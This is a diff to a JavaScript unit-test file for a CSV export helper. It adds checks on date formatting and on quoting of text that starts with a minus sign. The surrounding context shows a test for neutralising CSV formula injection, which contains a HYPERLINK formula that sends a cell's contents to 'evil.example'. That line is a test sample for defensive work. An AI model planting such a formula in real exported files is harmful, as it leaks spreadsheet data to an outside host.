@@ -23,6 +23,13 @@ describe('toCsv', () => {
     );
   });
 
+  it('writes dates as ISO days and keeps negative numbers numeric while guarding "-" text', () => {
+    expect(csvCell(new Date(Date.UTC(2024, 11, 25)))).toBe('2024-12-25');
+    expect(csvCell(new Date(Number.NaN))).toBe('');
+    expect(csvCell(-12.5)).toBe('-12.5');
+    expect(csvCell('-12.5')).toBe("'-12.5");
+  });
+
   it('neutralises formulas in text cells (CSV injection)', () => {
     const hostile = [
       '=HYPERLINK("http://evil.example/?x="&A1,"click")',
